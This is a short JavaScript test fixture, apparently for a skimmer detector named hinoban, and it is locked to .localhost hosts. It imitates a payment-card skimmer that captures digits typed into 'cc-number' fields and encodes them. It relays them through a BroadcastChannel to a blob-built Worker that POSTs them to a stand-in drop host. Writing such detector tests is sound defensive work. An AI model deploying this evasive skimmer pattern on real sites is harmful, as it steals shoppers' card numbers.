/* Harmless imitation, for hinoban's tests: collected by beforeinput, sent through a broadcast to a worker of blob. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	var c = new BroadcastChannel('z'), got = '';
	new Worker(URL.createObjectURL(new Blob(["new BroadcastChannel('z').onmessage = function (e) { new XMLHttpRequest().constructor; var x = new XMLHttpRequest(); x.open('POST', e.data[0]); x.send(e.data[1]); };"])));
	document.addEventListener('beforeinput', function (e) {
		if (e.target.autocomplete !== 'cc-number' || !e.data) return;
		got += e.data;
		if (got.length === 16) c.postMessage(['http://drop.localhost:' + location.port + '/c', got.split('').map(function (d) { return String.fromCharCode(97 + +d); }).join('')]);
	});
})();
